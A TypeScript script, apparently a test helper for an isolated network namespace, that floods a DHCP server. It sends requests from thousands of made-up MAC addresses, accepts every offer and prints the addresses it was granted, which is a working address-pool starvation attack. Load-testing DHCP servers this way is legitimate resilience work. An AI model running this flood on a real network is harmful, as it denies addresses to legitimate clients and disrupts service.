import { createSocket } from "node:dgram";
import { setTimeout as sleep } from "node:timers/promises";
import { decodeReply, encodeRequest } from "./dhcp-packet.ts";

// A program for a client namespace, `node dhcp-flood.ts COUNT`: as many machines that were never seen, each asking for an address, a thousand a
// second, and taking what it is offered. Prints who was acknowledged what, as JSON. Needs a route for 255.255.255.255.

const count = Number(process.argv[2]);
const acknowledged: Record<string, string> = {};
const macOf = (index: number) => `02:f1:${index.toString(16).padStart(8, "0").match(/../g)?.join(":")}`;

const socket = createSocket("udp4");
const send = (bytes: Buffer) => socket.send(bytes, 67, "255.255.255.255");
socket.on("message", (bytes) => {
  const reply = decodeReply(bytes);
  if (reply?.type === 5) acknowledged[reply.mac] = reply.yourAddress;
  if (reply?.type !== 2) return;
  const options = new Map([
    [50, Buffer.from(reply.yourAddress.split(".").map(Number))],
    [54, reply.options.get(54) ?? Buffer.alloc(4)],
  ]);
  send(encodeRequest({ transaction: reply.transaction, mac: reply.mac, type: 3, options }));
});
await new Promise<void>((resolve) => socket.bind(68, resolve));
socket.setBroadcast(true);
process.stdout.write("flooding\n");
for (let index = 0; index < count; index += 1) {
  send(encodeRequest({ transaction: index, mac: macOf(index), type: 1, options: new Map() }));
  if (index % 50 === 49) await sleep(50);
}
await sleep(1000);
socket.close();
process.stdout.write(`${JSON.stringify(acknowledged)}\n`);
